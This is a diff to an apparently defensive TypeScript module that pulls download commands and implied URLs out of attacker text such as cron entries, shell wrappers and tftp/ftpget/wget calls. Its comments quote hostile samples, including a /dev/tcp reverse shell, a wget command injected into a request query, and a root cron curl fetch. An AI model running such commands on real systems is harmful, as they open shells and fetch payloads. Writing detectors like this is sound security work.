@@ -1,6 +1,7 @@
 // Download commands in attacker text: the shell command segment around each wget, curl, tftp,
 // ftpget, nc, /dev/tcp, PowerShell or certutil download, the file names they fetch or write,
-// and the tftp:// or ftp:// URL a `tftp -g -r FILE HOST` or `ftpget HOST ... FILE` means.
+// and the URL a `tftp -g -r FILE HOST`, `ftpget HOST ... FILE` or scheme-less `wget HOST/PATH`
+// means.
 
 import { Budget } from './budget.js';
 import { hostKind, hostOf } from './hosts.js';
@@ -59,6 +60,7 @@ function segmentAround(text: string, verbStart: number, verbEnd: number, nested:
   // `cmd=wget ...`: a query or form value (or an assignment) that is a command starts after `=`.
   const opens = (i: number): boolean => text[i] === '=' || (nested && OPENERS.has(text[i] ?? ''));
   while (start > floor && !separatorAt(text, start - 1) && !opens(start - 1)) start--;
+  if (CRON_SCHEDULE.test(text.slice(start, verbStart))) start = verbStart;
   const closer = nested ? OPENERS.get(text[start - 1] ?? '') : undefined;
   let end = verbEnd;
   let depth = 0;
@@ -69,7 +71,36 @@ function segmentAround(text: string, verbStart: number, verbEnd: number, nested:
     if (closer === ')' && ch === '(') depth++;
     else if (closer === ')' && ch === ')') depth--;
   }
-  return unwrap(withoutHttpVersion(text.slice(start, end).trim())).slice(0, MAX_DOWNLOAD_CHARS);
+  const segment = unwrap(withoutHttpVersion(text.slice(start, end).trim()));
+  return withoutStrayQuotes(withoutShellWrapper(segment)).slice(0, MAX_DOWNLOAD_CHARS);
+}
+
+/** A crontab line's schedule (and user) before the command: `10 * * * * root curl ...`.
+ * `\S*?` takes what a decoded layer left of the line break before it (`\n` read as `n`). */
+const CRON_SCHEDULE = new RegExp(String.raw`^\S*?(?:(?:[0-9*][0-9*/,-]*\s+){5}|` +
+  String.raw`@(?:reboot|yearly|annually|monthly|weekly|daily|hourly|midnight)\s+)` +
+  String.raw`(?:[a-z_][a-z0-9_.-]*\s+)?$`, 'i');
+
+/** `/bin/bash -c "`, `sh -c '`, `cmd /c `: the shell that runs the command is not part of it
+ * (a PowerShell cradle's segment is not opened by the quote, so it starts there). */
+const SHELL_WRAPPER =
+  /^(?:(?:\/usr)?\/bin\/)?(?:(?:ba|da|z|k)?sh\s+-c|cmd(?:\.exe)?\s+\/c)\s+["']?/i;
+
+function withoutShellWrapper(segment: string): string {
+  const rest = segment.replace(SHELL_WRAPPER, '');
+  return rest === '' ? segment : rest;
+}
+
+/** A quote left unmatched at either end belongs to the list around the command: the closing
+ * `"` of `bash -c "...; bash -i >& /dev/tcp/h/p 0>&1"`. */
+function withoutStrayQuotes(segment: string): string {
+  let out = segment;
+  for (const quote of ['"', "'"]) {
+    if (out.split(quote).length % 2 === 1) continue;
+    if (out.endsWith(quote)) out = out.slice(0, -1).trimEnd();
+    else if (out.startsWith(quote)) out = out.slice(1).trimStart();
+  }
+  return out;
 }
 
 /** A command at the end of a request line's query (`GET /?c=wget+http://x/a HTTP/1.1`) runs
@@ -150,9 +181,10 @@ const TFTP_VALUE_OPTIONS = new Set(['-r', '-l', '-b', '-m', '-c']);
 const FTPGET_VALUE_OPTIONS = new Set(['-u', '-p', '-P']);
 
 /** `tftp -g -r FILE HOST [PORT]` → `tftp://HOST[:PORT]/FILE`; `ftpget HOST LOCAL REMOTE` →
- * `ftp://HOST/REMOTE` (BusyBox usage texts). Null when host or file is missing. */
+ * `ftp://HOST/REMOTE` (BusyBox usage texts); a scheme-less wget or curl target → `http://`.
+ * Null when host or file is missing. */
 export function impliedUrl(command: string): string | null {
-  if (!/tftp|ftpget/i.test(command)) return null;
+  if (!/tftp|ftpget/i.test(command)) return schemelessUrl(command);
   const list = words(command);
   const verb = list.findIndex((w) => /^(?:tftp|ftpget)$/i.test(w));
   if (verb < 0) return null;
@@ -166,6 +198,21 @@ export function impliedUrl(command: string): string | null {
     else if (!word.startsWith('-')) positional.push(word);
   }
   return tftp ? tftpUrl(options, positional) : ftpgetUrl(options, positional);
+}
+
+/** `wget 198.51.100.1/jaws`, `curl -s example.com/x.sh`: wget and curl read a host and path
+ * without a scheme as http://host/path. Null when no such word follows the verb. */
+function schemelessUrl(command: string): string | null {
+  const list = words(command);
+  const verb = list.findIndex((w) => /^(?:wget|curl)$/i.test(w));
+  if (verb < 0) return null;
+  for (const word of list.slice(verb + 1)) {
+    const found = /^([^/:@\s]+)(:[0-9]{1,5})?(\/[^\s]*)$/.exec(word);
+    if (found === null) continue;
+    const url = joinUrl('http', found[1], found[2] ?? '', found[3]);
+    if (url !== null) return url;
+  }
+  return null;
 }
 
 function tftpUrl(options: Map<string, string>, positional: string[]): string | null {
